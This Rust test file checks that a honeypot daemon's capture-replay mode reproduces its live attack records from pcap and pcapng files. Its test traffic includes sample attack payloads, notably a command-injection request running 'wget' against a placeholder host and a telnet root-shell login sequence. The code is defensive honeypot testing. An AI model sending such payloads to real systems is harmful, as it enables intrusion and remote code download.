//! `honeytrap --replay FILE`: captures the tests write themselves (pcap and pcapng; Ethernet
//! with a VLAN tag, Linux SLL2, raw IP; IPv4 and IPv6; segments out of order and
//! retransmitted; an unanswered SYN; a UDP flow) become the records the configured outputs
//! write; a file that is not a capture is an error; and a real tcpdump capture of the daemon
//! serving attacks in a namespace, replayed, reproduces the live records byte for byte
//! (payloads, addresses, ports).

mod common;

use common::{read, root_or_skip, run_ok, wait_until, Launch, Pair, TempDir, BIN, CLI4, SRV4, SRV6};
use honeytrap::attack::md5_hex;
use honeytrap::wire::{ip, ipv4, ipv6, link};
use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

const SYN: u8 = 0x02;
const ACK: u8 = 0x10;
const FIN: u8 = 0x01;
const RST: u8 = 0x04;
const PSH: u8 = 0x08;

/// An IP packet carrying a TCP segment.
fn tcp(src: &str, dst: &str, seq: u32, flags: u8, data: &[u8]) -> Vec<u8> {
    let (src, dst): (SocketAddr, SocketAddr) = (src.parse().unwrap(), dst.parse().unwrap());
    let mut seg = Vec::new();
    seg.extend_from_slice(&src.port().to_be_bytes());
    seg.extend_from_slice(&dst.port().to_be_bytes());
    seg.extend_from_slice(&seq.to_be_bytes());
    seg.extend_from_slice(&0u32.to_be_bytes());
    seg.extend_from_slice(&[5 << 4, flags, 0xff, 0xff, 0, 0, 0, 0]);
    seg.extend_from_slice(data);
    ip_packet(src.ip(), dst.ip(), ip::PROTO_TCP, &seg)
}

/// An IP packet carrying a UDP datagram.
fn udp(src: &str, dst: &str, data: &[u8]) -> Vec<u8> {
    let (src, dst): (SocketAddr, SocketAddr) = (src.parse().unwrap(), dst.parse().unwrap());
    let mut d = Vec::new();
    d.extend_from_slice(&src.port().to_be_bytes());
    d.extend_from_slice(&dst.port().to_be_bytes());
    d.extend_from_slice(&(8 + data.len() as u16).to_be_bytes());
    d.extend_from_slice(&[0, 0]);
    d.extend_from_slice(data);
    ip_packet(src.ip(), dst.ip(), ip::PROTO_UDP, &d)
}

fn ip_packet(src: IpAddr, dst: IpAddr, proto: u8, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    match (src, dst) {
        (IpAddr::V4(s), IpAddr::V4(d)) => ipv4::emit(&mut out, &ipv4::Repr::new(s, d, proto), payload),
        (IpAddr::V6(s), IpAddr::V6(d)) => ipv6::emit(&mut out, &ipv6::Repr::new(s, d, proto), payload),
        _ => panic!("mixed families"),
    }
    out
}

/// The packets of the test capture, with their times in milliseconds.
fn packets() -> Vec<(u64, Vec<u8>)> {
    let (c4, s4, c6, s6) = ("192.0.2.7:40000", "198.51.100.1:445", "[2001:db8::7]:50000", "[2001:db8::1]:80");
    let mut p = vec![
        (0, tcp(c4, s4, 1000, SYN, b"")),
        (1, tcp(s4, c4, 9000, SYN | ACK, b"")),
        (2, tcp(c4, s4, 1001, ACK, b"")),
        // Out of order, then the first part twice, then an overlap.
        (3, tcp(c4, s4, 1007, PSH | ACK, b"world\r\n")),
        (4, tcp(c4, s4, 1001, PSH | ACK, b"hello ")),
        (5, tcp(c4, s4, 1001, PSH | ACK, b"hello ")),
        (6, tcp(c4, s4, 1005, PSH | ACK, b"o wor")),
        (7, tcp(s4, c4, 9001, PSH | ACK, b"220 ready\r\n")),
        // An unanswered SYN: no record.
        (8, tcp("192.0.2.9:41000", "198.51.100.1:23", 5, SYN, b"")),
        (9, tcp("198.51.100.1:23", "192.0.2.9:41000", 0, RST | ACK, b"")),
        (10, tcp(c6, s6, 77, SYN, b"")),
        (11, tcp(s6, c6, 88, SYN | ACK, b"")),
        (12, tcp(c6, s6, 78, PSH | ACK, b"GET /x.sh HTTP/1.0\r\n\r\n")),
        (13, udp("192.0.2.8:5353", "198.51.100.1:69", b"\x00\x01boot\x00octet\x00")),
        (14, udp("198.51.100.1:69", "192.0.2.8:5353", b"\x00\x05\x00\x01no\x00")),
        (15, udp("192.0.2.8:5353", "198.51.100.1:69", b"\x00\x01more\x00octet\x00")),
        (20, tcp(s6, c6, 89, FIN | ACK, b"")),
        (21, tcp(c6, s6, 100, FIN | ACK, b"")),
        (30, tcp(s4, c4, 9012, FIN | ACK, b"")),
        (31, tcp(c4, s4, 1014, FIN | ACK, b"")),
    ];
    // An ARP frame's worth of other traffic is added per link type by the writer.
    p.sort_by_key(|(t, _)| *t);
    p
}

const BASE_SECS: u64 = 1_800_000_000;

fn frame(dlt: i32, ip: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if dlt == link::DLT_EN10MB {
        link::emit_ethernet(&mut out, &[(0x8100, 42)], ip).unwrap();
    } else {
        link::emit_frame(&mut out, dlt, ip).unwrap();
    }
    out
}

/// A pcap file (microsecond timestamps) of `frames` on link type `linktype`.
fn write_pcap(path: &Path, linktype: u32, frames: &[(u64, Vec<u8>)]) {
    let mut out = Vec::new();
    out.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
    out.extend_from_slice(&2u16.to_le_bytes());
    out.extend_from_slice(&4u16.to_le_bytes());
    for v in [0u32, 0, 262_144, linktype] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    for (ms, f) in frames {
        let (sec, usec) = (BASE_SECS + ms / 1000, (ms % 1000) * 1000);
        for v in [sec as u32, usec as u32, f.len() as u32, f.len() as u32] {
            out.extend_from_slice(&v.to_le_bytes());
        }
        out.extend_from_slice(f);
    }
    std::fs::write(path, out).unwrap();
}

/// The same as a pcapng file: section header, one interface, enhanced packet blocks.
fn write_pcapng(path: &Path, linktype: u32, frames: &[(u64, Vec<u8>)]) {
    fn block(out: &mut Vec<u8>, kind: u32, body: &[u8]) {
        let pad = (4 - body.len() % 4) % 4;
        let len = (12 + body.len() + pad) as u32;
        out.extend_from_slice(&kind.to_le_bytes());
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(body);
        out.extend(std::iter::repeat_n(0u8, pad));
        out.extend_from_slice(&len.to_le_bytes());
    }
    let mut out = Vec::new();
    let mut shb = Vec::new();
    shb.extend_from_slice(&0x1a2b_3c4du32.to_le_bytes());
    shb.extend_from_slice(&1u16.to_le_bytes());
    shb.extend_from_slice(&0u16.to_le_bytes());
    shb.extend_from_slice(&(-1i64).to_le_bytes());
    block(&mut out, 0x0a0d_0d0a, &shb);
    let mut idb = Vec::new();
    idb.extend_from_slice(&(linktype as u16).to_le_bytes());
    idb.extend_from_slice(&0u16.to_le_bytes());
    idb.extend_from_slice(&262_144u32.to_le_bytes());
    block(&mut out, 1, &idb);
    for (ms, f) in frames {
        let us = (BASE_SECS * 1000 + ms) * 1000;
        let mut epb = Vec::new();
        for v in [0u32, (us >> 32) as u32, us as u32, f.len() as u32, f.len() as u32] {
            epb.extend_from_slice(&v.to_le_bytes());
        }
        epb.extend_from_slice(f);
        block(&mut out, 6, &epb);
    }
    std::fs::write(path, out).unwrap();
}

/// A configuration in `dir` with logAttacker and SaveFile there.
fn replay_config(dir: &Path) -> std::path::PathBuf {
    std::fs::create_dir_all(dir.join("attacks")).unwrap();
    common::write_config(
        dir,
        &format!(
            "plugin-logAttacker = {{ logfile = \"{d}/attacker.log\" }}\nplugin-SaveFile = {{ attacks_dir = \"{d}/attacks\" }}",
            d = dir.display()
        ),
    )
}

fn run_replay(conf: &Path, file: &Path, extra: &[&str]) -> (i32, String, String) {
    let out = Command::new(BIN)
        .args(["-C", conf.to_str().unwrap(), "-t", "5", "--replay", file.to_str().unwrap()])
        .args(extra)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

/// attacker.log without the times: `tcp A -> B md5 sha512 (n bytes)` lines, sorted.
fn attacker_lines(path: &Path) -> Vec<String> {
    let mut v: Vec<String> =
        read(path).lines().map(|l| l.split_once("] ").map_or(l, |(_, rest)| rest).to_string()).collect();
    v.sort();
    v
}

/// The contents of the SaveFile directory (not its hidden counter file), as a sorted list.
fn saved(dir: &Path) -> Vec<Vec<u8>> {
    let mut v: Vec<Vec<u8>> = std::fs::read_dir(dir)
        .map(|d| {
            d.filter_map(|e| e.ok())
                .filter(|e| e.path().is_file() && !e.file_name().to_string_lossy().starts_with('.'))
                .map(|e| std::fs::read(e.path()).unwrap())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

#[test]
fn replays_captures_the_tests_write() {
    let links = [(link::DLT_EN10MB, 1u32), (link::DLT_LINUX_SLL2, 276), (link::LINKTYPE_RAW, 101)];
    for (dlt, linktype) in links {
        for ng in [false, true] {
            let dir = TempDir::new("replay");
            let conf = replay_config(dir.path());
            let frames: Vec<(u64, Vec<u8>)> = packets().iter().map(|(t, p)| (*t, frame(dlt, p))).collect();
            let file = dir.join(if ng { "c.pcapng" } else { "c.pcap" });
            if ng {
                write_pcapng(&file, linktype, &frames);
            } else {
                write_pcap(&file, linktype, &frames);
            }
            let (status, out, err) = run_replay(&conf, &file, &[]);
            let what = format!("link {linktype}, pcapng {ng}\nstdout:\n{out}\nstderr:\n{err}");
            assert_eq!(status, 0, "{what}");
            let lines = attacker_lines(&dir.join("attacker.log"));
            let want = |proto: &str, c: &str, s: &str, data: &[u8]| {
                let prefix = format!("{proto} {c} -> {s} {} ", md5_hex(data));
                lines.iter().any(|l| l.starts_with(&prefix) && l.ends_with(&format!("({} bytes)", data.len())))
            };
            assert_eq!(lines.len(), 3, "{lines:?}\n{what}");
            assert!(want("tcp", "192.0.2.7:40000", "198.51.100.1:445", b"hello world\r\n"), "{lines:?}\n{what}");
            assert!(
                want("tcp", "[2001:db8::7]:50000", "[2001:db8::1]:80", b"GET /x.sh HTTP/1.0\r\n\r\n"),
                "{lines:?}\n{what}"
            );
            assert!(
                want("udp", "192.0.2.8:5353", "198.51.100.1:69", b"\x00\x01boot\x00octet\x00\x00\x01more\x00octet\x00"),
                "{lines:?}\n{what}"
            );
            let files = saved(&dir.join("attacks"));
            assert!(files.contains(&b"hello world\r\n".to_vec()), "{what}");
            assert!(
                err.contains(
                    "20 packets (0 not TCP or UDP, 0 malformed, 0 later fragments), 3 conversations, 3 records"
                ),
                "{what}"
            );
            assert!(err.contains(", 0 gaps, 11 bytes repeated"), "{what}");
        }
    }
}

#[test]
fn a_gap_in_the_capture_is_logged_and_skipped() {
    let dir = TempDir::new("replay-gap");
    let conf = replay_config(dir.path());
    let (c, s) = ("192.0.2.7:40000", "198.51.100.1:445");
    let frames: Vec<(u64, Vec<u8>)> = [
        (0, tcp(c, s, 10, SYN, b"")),
        (1, tcp(s, c, 20, SYN | ACK, b"")),
        (2, tcp(c, s, 11, ACK, b"abc")),
        (3, tcp(c, s, 20, ACK, b"xyz")),
        (4, tcp(c, s, 23, RST, b"")),
    ]
    .into_iter()
    .map(|(t, p)| (t, frame(link::LINKTYPE_RAW, &p)))
    .collect();
    let file = dir.join("gap.pcap");
    write_pcap(&file, 101, &frames);
    let (status, out, err) = run_replay(&conf, &file, &[]);
    assert_eq!(status, 0, "{out}{err}");
    assert!(
        out.contains("Warning - Replay: 192.0.2.7:40000 -> 198.51.100.1:445/tcp: 6 bytes missing at offset 3 (not in the capture)."),
        "{out}"
    );
    assert_eq!(saved(&dir.join("attacks")), vec![b"abcxyz".to_vec()]);
}

#[test]
fn a_file_that_is_not_a_capture_is_an_error() {
    let dir = TempDir::new("replay-bad");
    let conf = replay_config(dir.path());
    let file = dir.join("notes.txt");
    std::fs::write(&file, "not a capture\n").unwrap();
    let (status, _, err) = run_replay(&conf, &file, &[]);
    assert_eq!(status, 1);
    assert!(err.contains(&format!("Error - {} is not a capture file that can be replayed: ", file.display())), "{err}");
    let (status, _, err) = run_replay(&conf, &dir.join("missing.pcap"), &[]);
    assert_eq!(status, 1, "{err}");
    let (status, _, err) = run_replay(&conf, &file, &["-a", "sensor.example"]);
    assert_eq!(status, 1);
    assert!(err.contains("Invalid sensor address 'sensor.example'"), "{err}");
}

/// The daemon serves attacks in a namespace while tcpdump captures the sensor's interface;
/// the capture replayed with the same configuration gives the same records.
#[test]
fn replay_reproduces_a_live_capture() {
    if !root_or_skip(&common::this_test(), &["ip", "tcpdump"]) {
        return;
    }
    let pair = Pair::new();
    let live = TempDir::new("replay-live");
    let conf = replay_config(live.path());
    let cap = live.join("live.pcap");
    let mut tcpdump = Command::new("ip")
        .args(["netns", "exec", &pair.srv.0, "tcpdump", "-i", "ht-s", "-U", "-Z", "root", "-s", "0", "-w"])
        .arg(&cap)
        .arg("tcp or udp")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let _tcpdump_guard = common::PidGuard(tcpdump.id() as i32);
    assert!(wait_until(Duration::from_secs(10), || cap.exists()), "tcpdump did not start");
    std::thread::sleep(Duration::from_millis(500));

    let mut cmd = pair.srv.command(BIN);
    cmd.args(["-C", conf.to_str().unwrap(), "-i", "ht-s", "-t", "5"]);
    let mut d =
        common::Running::start(Launch::Foreground, cmd, &live.join("honeytrap.log"), &live.join("honeytrap.pid"));
    let big: Vec<u8> = (0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let attacks: Vec<(String, Vec<u8>)> = vec![
        (format!("{SRV4}:5555"), b"GET /cgi-bin/x?cmd=wget%20http://192.0.2.1/a HTTP/1.0\r\n\r\n".to_vec()),
        (format!("{SRV4}:2323"), b"\xff\xfb\x01root\r\nenable\r\nsh\r\n".to_vec()),
        (format!("{SRV4}:8443"), big.clone()),
        (format!("[{SRV6}]:5555"), b"USER x\r\nPASS y\r\n".to_vec()),
    ];
    for (to, data) in &attacks {
        assert!(common::attack(&pair.cli, to.parse().unwrap(), data), "attack on {to}");
    }
    assert!(wait_until(Duration::from_secs(30), || read(&live.join("attacker.log")).lines().count() == attacks.len()));
    d.stop(Duration::from_secs(20)).unwrap();
    std::thread::sleep(Duration::from_millis(500));
    run_ok("kill", &["-INT", &tcpdump.id().to_string()]);
    let status = tcpdump.wait().unwrap();
    assert!(status.success() || status.code() == Some(0) || status.code().is_none(), "tcpdump: {status:?}");

    let again = TempDir::new("replay-again");
    let conf2 = replay_config(again.path());
    let (status, out, err) = run_replay(&conf2, &cap, &[]);
    assert_eq!(status, 0, "stdout:\n{out}\nstderr:\n{err}");
    assert_eq!(attacker_lines(&again.join("attacker.log")), attacker_lines(&live.join("attacker.log")), "{err}");
    assert_eq!(saved(&again.join("attacks")), saved(&live.join("attacks")));
    let by_source: BTreeMap<String, usize> = attacker_lines(&again.join("attacker.log"))
        .iter()
        .map(|l| (l.split(' ').nth(1).unwrap().to_string(), 1))
        .collect();
    assert_eq!(by_source.len(), attacks.len(), "each attack from its own source port");
    // With the sensor's address given, only the IPv4 attacks remain.
    let third = TempDir::new("replay-a");
    let conf3 = replay_config(third.path());
    let (status, _, err) = run_replay(&conf3, &cap, &["-a", SRV4]);
    assert_eq!(status, 0, "{err}");
    let lines = attacker_lines(&third.join("attacker.log"));
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines.iter().all(|l| l.contains(&format!("{CLI4}:"))), "{lines:?}");
}
